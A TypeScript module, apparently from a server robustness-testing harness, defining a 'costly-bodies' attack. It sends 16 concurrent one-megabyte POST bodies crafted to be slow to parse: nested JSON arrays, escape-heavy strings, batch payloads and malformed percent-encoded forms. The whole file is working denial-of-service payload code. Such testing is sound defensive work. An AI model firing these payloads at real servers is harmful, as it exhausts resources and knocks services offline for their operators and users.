import type { Attack } from '../attack.ts';
import { send } from '../sending.ts';

const JSON_TYPE = { 'Content-Type': 'application/json' };
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const megabyte = (piece: string) => piece.repeat(Math.floor(1_000_000 / piece.length));

/** Texts of a megabyte that are quick to write and slow to take apart, from anybody. */
const REQUESTS = [
  { headers: JSON_TYPE, body: `{"a":[${megabyte('[],').slice(0, -1)}]}` },
  { headers: JSON_TYPE, body: `{"a":[${megabyte('1,').slice(0, -1)}]}` },
  { headers: JSON_TYPE, body: `{"a":"${megabyte('\\u0041')}"}` },
  { headers: JSON_TYPE, body: `{"batch_app_id":"1","batch":[${megabyte('{},').slice(0, -1)}]}` },
  { headers: FORM, body: `batch_app_id=1&batch=[{"body":"${megabyte('{result=a:$.a}')}"}]` },
  { headers: FORM, body: megabyte('%ff=%&') },
  { headers: FORM, body: megabyte('%ff') },
  { headers: FORM, body: megabyte('a&') },
];

export const costlyBodies: Attack = {
  name: 'costly-bodies',
  row: 'bodies of a megabyte that are slow to take apart, 16 at once',
  async run(victim) {
    const sent = [...REQUESTS, ...REQUESTS].map((each) => ({ method: 'POST', path: '/', ...each }));
    await Promise.all(sent.map((each) => send(victim, each)));
    return undefined;
  },
};
